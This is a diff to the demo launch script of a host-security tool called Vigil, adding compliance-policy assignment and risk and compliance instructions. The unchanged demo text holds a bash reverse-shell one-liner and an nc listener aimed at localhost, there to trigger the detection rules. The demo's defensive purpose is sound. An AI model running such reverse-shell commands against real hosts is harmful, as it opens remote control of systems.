@@ -39,6 +39,12 @@ if [ ! -s "$demo/console.password" ]; then
 	"$bin/vigil" users create admin --role admin --password-stdin <"$demo/console.password" >/dev/null
 fi
 
+# The demo host evaluates the CIS benchmark of its system and MLPS 2.0
+# level 3 (the other CIS policies report themselves not applicable).
+for policy in cis_debian12 cis_ubuntu2204 cis_rhel9 mlps_level3; do
+	"$bin/vigil" compliance assign "$policy" --selector env=demo >/dev/null
+done
+
 join=""
 [ -f "$demo/agent/identity.json" ] || join=$("$bin/vigil" token create --ttl 1h --labels env=demo)
 "$bin/vigil-agent" --center "https://$http" --token "$join" --data "$demo/agent" >"$demo/agent.log" 2>&1 &
@@ -63,6 +69,13 @@ Vigil demo is running (data in $demo, logs center.log and agent.log).
 Detection runs the shipped rules (bin/vigil rules list). With a listener on
 127.0.0.1:4444 (nc -l 4444), try a reverse shell: bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
 then see bin/vigil alerts list, bin/vigil incidents list, and the console's Incidents page.
+
+Risk and compliance: the inventory is in bin/vigil assets; import OSV data
+(bin/vigil vulndb import FILE.zip) and see bin/vigil vulns and bin/vigil
+weak-passwords. The host's CIS and MLPS 2.0 results arrive within a minute:
+bin/vigil compliance summary, bin/vigil compliance results --status fail --lang zh,
+bin/vigil compliance report --agent ID --lang zh, and the console's Risk and
+Compliance pages.
 
 Stop the agent with kill -9 $(echo "${pids[1]}") and watch it turn "lost" with an alert
 (bin/vigil alerts list). Ctrl-C stops the demo.
